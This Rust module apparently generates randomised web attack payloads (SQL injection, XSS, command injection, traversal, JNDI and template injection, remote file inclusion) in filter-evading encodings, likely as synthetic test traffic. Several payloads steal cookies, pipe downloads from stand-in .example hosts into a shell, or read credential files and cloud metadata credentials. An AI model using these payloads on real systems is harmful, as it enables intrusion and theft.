//! What attackers of web applications send: six kinds of attack on a parameter, in the spellings that get past filters.

use crate::dice::{Dice, hex};

/// What is tried on a parameter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    Sql,
    Script,
    Command,
    Traversal,
    Template,
    Include,
}

pub(crate) const ATTACKS: [Attack; 6] =
    [Attack::Sql, Attack::Traversal, Attack::Script, Attack::Command, Attack::Template, Attack::Include];

/// How it is spelled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Spelling {
    Plain,
    /// Every byte that is not a letter or digit as `%xx`.
    Percent,
    /// The percent signs again.
    Twice,
    /// `%u0027` for what is no letter or digit.
    Unicode,
    /// Comments in place of spaces, letters in mixed case.
    Disguised,
}

pub(crate) const SPELLINGS: [Spelling; 5] =
    [Spelling::Percent, Spelling::Plain, Spelling::Twice, Spelling::Disguised, Spelling::Unicode];

/// A payload as it stands in the address.
pub(crate) fn payload(attack: Attack, spelling: Spelling, dice: &mut Dice) -> String {
    let bare = bare(attack, dice);
    match spelling {
        // A space cannot stand in a request line, nor can what ends it.
        Spelling::Plain => bare.replace(' ', "+").replace('#', "%23"),
        Spelling::Percent => percent(&bare),
        Spelling::Twice => percent(&percent(&bare)),
        Spelling::Unicode => escaped(&bare, |byte| format!("%u00{byte:02x}")),
        Spelling::Disguised => percent(&disguised(&bare, dice)),
    }
}

fn bare(attack: Attack, dice: &mut Dice) -> String {
    let n = dice.below(9_000);
    let word = hex(dice.bits(), 6);
    let up = "../".repeat(2 + dice.below(8) as usize);
    match attack {
        Attack::Sql => match dice.below(7) {
            0 => format!("{n}' OR '{word}'='{word}"),
            1 => format!("-{n}' UNION ALL SELECT NULL,concat(0x{word},version()),NULL-- -"),
            2 => format!("{n} AND (SELECT {n} FROM (SELECT(SLEEP({})))x{word})", 2 + dice.below(9)),
            3 => format!("{n}'; DROP TABLE t_{word};--"),
            4 => format!("{n}) AND extractvalue(1,concat(0x7e,(select user())))-- {word}"),
            5 => format!("admin'/*{word}*/or/**/1=1#"),
            _ => format!("{n} ORDER BY {}--", 1 + dice.below(20)),
        },
        Attack::Script => match dice.below(5) {
            0 => format!("<script>fetch('//{word}.example/'+document.cookie)</script>"),
            1 => format!("\"><img src=x onerror=alert({n})>"),
            2 => format!("<svg/onload=confirm`{n}`>"),
            3 => format!("javascript:eval(atob('{word}'))"),
            _ => format!("'-prompt({n})-'"),
        },
        Attack::Command => match dice.below(5) {
            0 => format!("{n};id"),
            1 => format!("|wget http://{word}.example/x -O- | sh"),
            2 => format!("`curl {word}.example/$(whoami)`"),
            3 => format!("$(sleep {})", 3 + dice.below(9)),
            _ => format!("& ping -n {} 127.0.0.1 &", 3 + dice.below(9)),
        },
        Attack::Traversal => match dice.below(4) {
            0 => format!("{up}etc/passwd"),
            1 => format!("{}windows\\win.ini", up.replace('/', "\\")),
            2 => format!("....//....//....//proc/self/environ?{word}"),
            _ => format!("/var/www/{up}etc/shadow"),
        },
        Attack::Template => match dice.below(4) {
            0 => format!("{{{{{n}*7}}}}"),
            1 => format!("${{jndi:ldap://{word}.example/a}}"),
            2 => format!("${{${{lower:j}}ndi:rmi://{word}.example:1099/{n}}}"),
            _ => "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}".to_owned(),
        },
        Attack::Include => match dice.below(3) {
            0 => format!("http://{word}.example/shell.txt?"),
            1 => "php://filter/convert.base64-encode/resource=index.php".to_owned(),
            _ => "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
        },
    }
}

fn escaped(text: &str, escape: impl Fn(u8) -> String) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { escape(byte) })
        .collect()
}

/// Percent-encoding of all but letters and digits.
pub(crate) fn percent(text: &str) -> String {
    escaped(text, |byte| format!("%{byte:02X}"))
}

fn disguised(text: &str, dice: &mut Dice) -> String {
    let mixed = |c: char, dice: &mut Dice| if dice.chance(0.5) { c.to_ascii_uppercase() } else { c };
    text.chars().map(|c| if c == ' ' { "/**/".to_owned() } else { mixed(c, dice).to_string() }).collect()
}
